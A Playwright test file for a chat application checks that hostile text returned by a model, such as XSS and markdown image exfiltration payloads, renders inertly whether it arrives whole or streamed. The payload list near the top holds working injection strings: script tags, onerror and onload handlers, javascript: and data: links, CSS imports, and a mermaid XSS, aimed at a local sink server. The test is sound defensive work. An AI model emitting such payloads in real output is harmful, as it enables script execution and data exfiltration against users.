import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { openApp, shells } from "./support/shells.ts";
import { createWorld } from "./support/world.ts";

/** Text that an attacker would have the model say, with an address that must never be asked. */
const payloads = (sink: string): string[] => [
  `![pixel](${sink}/image?secret=1)`,
  `<img src="${sink}/html" onerror="document.title='owned'">`,
  `<script>document.title='owned'</script>`,
  `<svg onload="document.title='owned'"><image href="${sink}/svg" /></svg>`,
  `<iframe src="${sink}/frame"></iframe>`,
  `<link rel="prefetch" href="${sink}/prefetch"><style>@import url(${sink}/css)</style>`,
  `<a href="javascript:document.title='owned'">click</a>`,
  `[calc](calculator://x) [script](javascript:alert(1)) [data](data:text/html,<script>1</script>)`,
  `[ref]: ${sink}/definition\n\n![again][ref]`,
  "```mermaid\ngraph TD; A-->B[<img src=x onerror=alert(1)>]\n```",
];

for (const shell of shells)
  test(`${shell}: hostile text of a model runs nothing, loads nothing and leaves no live element, streamed and at the end`, async ({
    browser,
  }) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? "");
      response.end("x");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const sink = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const text = `${payloads(sink).join("\n\n")}\n\nThe end.`;
    const world = await createWorld({
      steps: [
        { when: { lastUser: "whole" }, text: [text] },
        { when: { lastUser: "pieces" }, text, chunkSize: 3 },
      ],
    });
    const app = await openApp(shell, world, browser);
    const { page } = app;
    let dialogs = 0;
    page.on("dialog", (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    try {
      const log = page.getByRole("log", { name: "Conversation" });
      for (const [index, prompt] of ["whole", "pieces"].entries()) {
        const box = page.getByRole("textbox", { name: "Message" });
        await box.fill(prompt);
        await box.press("Enter");
        await expect(log.getByText("The end.")).toHaveCount(index + 1);
        await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
      }
      await expect(
        log.locator("script, iframe, object, embed, link, style, img[src^='http'], svg image"),
      ).toHaveCount(0);
      const links = await log
        .locator("a")
        .evaluateAll((all) => all.map((one) => one.getAttribute("href") ?? ""));
      expect(links.filter((href) => !/^(https?:|mailto:|#|$)/i.test(href))).toEqual([]);
      expect(await page.title()).not.toContain("owned");
      expect([dialogs, asked]).toEqual([0, []]);
    } finally {
      await app.close();
      await new Promise((resolve) => server.close(resolve));
      await world.stop();
    }
  });
